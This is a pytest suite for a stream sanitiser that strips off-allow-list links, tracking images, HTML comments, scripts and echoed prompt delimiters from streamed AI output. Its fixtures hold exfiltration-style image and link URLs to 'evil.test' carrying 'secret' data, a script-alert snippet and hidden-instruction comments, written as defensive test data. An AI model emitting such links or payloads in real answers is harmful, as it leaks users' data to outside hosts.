"""The stream sanitiser cleans only the unsettled tail: at every chunk it must release exactly what cleaning the whole
prefix would (the reference below is that whole-prefix rule), whatever the chunking and whatever the model writes."""

from __future__ import annotations

import random

import pytest

from backend.skills.streaming import StreamSanitizer, is_closed, safe_cut

HOSTS = ("example.com",)
PIECES = [
    "Plain words and more words. ",
    "A line that ends.\n",
    "\n",
    "  indented line\n",
    "See [the memo](https://example.com/memo) here. ",
    "Bad [link](https://evil.test/?d=secret) there. ",
    "Nested [a [b] c](https://evil.test/?d=secret) words. ",
    "![alt [x] y](https://evil.test/p.png?d=secret) ",
    "![pixel](https://evil.test/p.png?d=x)",
    "![ok](https://example.com/i.png) ",
    "A [multi\nline](https://evil.test/x) link. ",
    "[ref]: https://evil.test/track\n",
    "[good]: https://example.com/ok\n",
    "![r][ref] and [t][good]\n",
    "<b>bold</b> <i>it\nalic</i> ",
    "<!-- hidden\ninstructions --> ",
    "<!-- never closed ",
    "<script>alert(1)\n</script>",
    "<https://evil.test/auto> ",
    "A1<B1 and C1>D1 in a formula\n",
    "x < y and 3 > 2\n",
    "(a list item) 1) two) (three\n",
    "closing paren later)\n",
    "unclosed [bracket\n",
    "then closed] ok\n",
    "Bang! ",
    "<<<DATA selection 1f2e3d>>>\n",
    "echoed <<<END DATA selection 1f2e3d>>> mid-line ",
    "a << b and c >> d\n",
    "tail without newline",
]


def reference_releases(chunks: list[str]) -> list[str]:
    """What each chunk releases under the whole-prefix rule (clean raw[:safe_cut(raw)] every time)."""
    sanitizer = StreamSanitizer(HOSTS)
    raw, sent, out = "", "", []
    for chunk in chunks:
        raw += chunk
        candidate = sanitizer._clean(raw[: safe_cut(raw)]).rstrip()
        if not candidate.startswith(sent):
            out.append(None)
            break
        out.append(candidate[len(sent) :])
        sent = candidate
    return out


@pytest.mark.parametrize("seed", range(300))
def test_incremental_releases_equal_whole_prefix_cleaning(seed):
    rng = random.Random(seed)
    text = "".join(rng.choice(PIECES) for _ in range(rng.randint(5, 40)))
    size = rng.choice([1, 2, 3, 5, 8, 13, 40])
    chunks = [text[i : i + size] for i in range(0, len(text), size)]
    expected = reference_releases(chunks)
    sanitizer = StreamSanitizer(HOSTS)
    released = []
    for chunk in chunks[: len(expected)]:
        delta = sanitizer.feed(chunk)
        released.append(None if sanitizer.diverged else delta)
    assert released == expected
    if None not in expected:  # the deltas so far are a prefix of the final answer (the whole text, cleaned once)
        assert sanitizer.finish().startswith("".join(released).rstrip())


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_an_echoed_data_delimiter_never_shows_and_never_diverges(size):
    """A small model repeats its prompt's framing: the delimiters go, in every chunking, without a divergence."""
    text = "<<<DATA selection 9f1c2b>>>\nThe sea is calm.\n<<<END DATA selection 9f1c2b>>>"
    sanitizer = StreamSanitizer(HOSTS)
    released = "".join(sanitizer.feed(text[i : i + size]) for i in range(0, len(text), size))
    released += sanitizer.flush()
    assert not sanitizer.diverged and "<" not in released
    assert released.strip() == sanitizer.finish() == "The sea is calm."


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8])
def test_a_link_with_brackets_in_its_words_never_shows_its_target(size):
    """Brackets nest in a link's words; the target of such a link to another host is held back until it is complete
    and then dropped, in every chunking, without a divergence."""
    text = "See [a [b] c](https://evil.test/?d=secret) and ![x [y] z](https://evil.test/p.png?d=secret) now.\n"
    sanitizer = StreamSanitizer(HOSTS)
    deltas = [sanitizer.feed(text[i : i + size]) for i in range(0, len(text), size)]
    released = "".join(deltas) + sanitizer.flush()
    assert not sanitizer.diverged and "evil" not in released and "secret" not in released
    assert released.strip() == sanitizer.finish() == "See [a [b] c] and ![x [y] z] now."


def test_settling_makes_long_answers_linear():
    line = "Revenue rose [eight percent](https://example.com/q3) while <b>costs</b> stayed flat.\n"
    text = line * 250  # about 21,000 characters
    chunks = [text[i : i + 4] for i in range(0, len(text), 4)]
    sanitizer = StreamSanitizer(HOSTS)
    joined = "".join(sanitizer.feed(chunk) for chunk in chunks) + sanitizer.flush()
    assert joined.rstrip() == sanitizer.finish()  # the deltas may keep a final line break the `done` output trims
    # Settled up to the last complete line: each chunk cleaned only the current line, not the whole answer.
    assert sanitizer.settled == len(text)


@pytest.mark.parametrize(
    ("segment", "closed"),
    [
        ("plain line\n", True),
        ("a [link](https://x.test/a) b\n", True),
        ("a [multi\n", False),
        ("a (open\n", False),
        ("1) item) done\n", True),
        ("<!-- open\n", False),
        ("<!-- shut --> text\n", True),
        ("<b>bold\n", True),
        ("<b\n", False),
        ("<script>x\n", False),
        ("<script>x</script> y\n", True),
        ("A1<B1 and C1>D1\n", True),
        ("x < y\n", True),
        ("[ref]: https://evil.test/\n", False),
        ("text\n\n", False),
        ("text\n<b></b>\n", False),  # blank once cleaned: a definition on the next line may take it
        ("text\n<<<DATA selection 1f2e>>>\n", False),
        ("text\n![pixel](https://evil.test/p.png)\n", False),
        ("![pixel](https://evil.test/p.png)[ref]: https://evil.test/\n", False),  # a definition once cleaned
    ],
)
def test_is_closed(segment, closed):
    assert is_closed(segment) is closed
